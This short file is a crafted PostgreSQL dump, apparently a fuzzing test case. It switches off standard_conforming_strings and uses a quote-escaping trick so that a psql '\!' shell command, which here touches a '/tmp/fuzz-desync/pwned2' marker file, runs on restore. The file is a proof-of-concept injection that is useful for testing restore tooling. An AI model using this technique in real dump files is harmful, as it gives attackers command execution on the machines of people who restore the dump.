--
-- PostgreSQL database dump
--

SELECT pg_catalog.set_config('standard_conforming_strings', 'off', false);
SELECT 'x\'';
\! touch /tmp/fuzz-desync/pwned2
';

--
-- PostgreSQL database dump complete
--
